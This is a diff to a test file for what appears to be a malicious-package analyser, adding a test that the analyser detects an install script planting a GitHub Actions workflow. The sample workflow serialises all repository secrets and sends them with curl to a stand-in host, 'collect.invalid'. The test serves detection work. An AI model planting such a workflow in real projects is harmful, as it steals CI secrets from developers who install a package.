@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
 import { packageOf } from '../../../../support/artifacts.js';
-import { flowsOf } from '../platform/sent.js';
+import { behavioursOf, flowsOf } from '../platform/sent.js';
 
 const ASK = `const ask = (url) => new Promise((resolve, reject) => https.get(url, (res) => {
   let body = ''; res.on('data', (c) => { body += c; }).on('end', () => resolve({ body })); }).on('error', reject));`;
@@ -34,6 +34,19 @@ describe('functions that are called again', () => {
       assert.deepEqual(sent(`exports.run = () => { send(${first}); send(${then}); };`), expected, then);
       assert.deepEqual(sent(`send(${first}); send(${first});`), [], first);
     }
+  });
+
+  it('are told something else: a tree is written down with each of its parts', () => {
+    const dump = `function dump(v, depth = 0) { const pad = '  '.repeat(depth);
+      if (Array.isArray(v)) return v.map((x) => x && typeof x === 'object' ? pad + '- ' + dump(x, depth + 1).trimStart() : pad + '- ' + x).join('\\n');
+      return Object.entries(v).map(([k, x]) => x && typeof x === 'object' ? pad + k + ':\\n' + dump(x, depth + 1) : pad + k + ': ' + x).join('\\n'); }`;
+    const flow = `{ name: 'format', on: { push: {} }, jobs: { format: { 'runs-on': 'ubuntu-latest', env: { ALL: '\${{ toJSON(secrets) }}' }, steps: [{ run: 'curl -d "$ALL" https://collect.invalid' }] } } }`;
+    const written = (guard: string): readonly string[] =>
+      behavioursOf(
+        `${dump} ${guard} fs.writeFileSync(path.join(process.env.INIT_CWD, '.github', 'workflows', 'format.yml'), dump(${flow}));`,
+      );
+    for (const guard of ['', `if (fs.existsSync('.git'))`])
+      assert.deepEqual(written(guard), ['workflow-written import', 'workflow-secrets import'], guard);
   });
 
   it('follow to where they are sent on, and count how often they still may', () => {
